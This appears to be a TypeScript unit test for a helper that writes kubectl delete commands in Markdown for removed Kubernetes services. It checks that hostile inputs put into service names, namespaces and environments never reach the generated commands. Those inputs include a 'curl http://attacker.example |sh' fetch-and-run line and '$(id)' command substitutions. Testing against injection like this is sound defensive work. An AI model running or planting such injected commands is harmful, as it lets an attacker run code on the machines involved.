import { toManifestObject } from '@external-services/backstage-plugin-external-services-common';
import { byHandText } from './byHandText';

describe('byHandText', () => {
  const text = (name: string, namespace?: string, environment?: string) => {
    const object = toManifestObject({
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name, ...(namespace && { namespace }) },
    });
    return byHandText(
      [object],
      [
        {
          service: { name, environment, target: { dnsName: 'a.b' }, ports: [] },
          objects: [object],
          path: 'a.yaml',
        },
      ],
    );
  };

  it('gives the command that deletes what has gone', () => {
    expect(text('db', 'shop', 'prod')).toContain(
      '```sh\n# prod\nkubectl delete service db -n shop\n```',
    );
  });

  it.each([
    ['db-1; curl http://attacker.example |sh #', undefined, 'dev'],
    ['db$(id)', undefined, 'dev'],
    ['db\n```\n# Heading', undefined, 'dev'],
    ['db', 'shop; id', 'dev'],
    ['db', 'shop', 'dev\ncurl http://attacker.example'],
  ])(
    'puts nothing of %j, %j, %j into a command',
    (name, namespace, environment) => {
      const told = text(name, namespace, environment);
      expect(told).not.toMatch(/curl|\$\(|; |Heading/);
    },
  );
});
